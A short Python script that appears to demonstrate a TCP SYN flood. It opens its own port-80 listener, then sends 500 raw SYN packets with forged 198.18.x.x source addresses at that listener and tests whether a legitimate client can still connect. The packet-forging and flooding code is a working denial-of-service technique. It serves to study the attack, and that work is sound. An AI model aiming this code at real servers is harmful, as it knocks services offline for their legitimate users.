"""SYNs from everywhere to a server that is idle, and one honest client among them."""
import random, socket, struct, time

listener = socket.create_server(("0.0.0.0", 80), backlog=64)
me = socket.inet_aton("10.0.2.15")
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def checksum(b):
    n = sum(struct.unpack(f"!{len(b) // 2}H", b))
    n = (n >> 16) + (n & 0xFFFF)
    return ~(n + (n >> 16)) & 0xFFFF


def syn(src, port):
    tcp = [port, 80, random.getrandbits(32), 0, 5 << 12 | 2, 64240, 0, 0]
    pseudo = struct.pack("!4s4sHH", src, me, socket.IPPROTO_TCP, 20)
    tcp[6] = checksum(pseudo + struct.pack("!HHIIHHHH", *tcp))
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, src, me)
    return ip + struct.pack("!HHIIHHHH", *tcp)


for n in range(500):
    raw.sendto(syn(bytes([198, 18, n >> 8, n & 255]), 1024 + n), ("10.0.2.15", 0))
time.sleep(0.2)
try:
    socket.create_connection(("10.0.2.15", 80), timeout=4)
    print("an honest client is connected")
except TimeoutError:
    print("an honest client gets no answer")
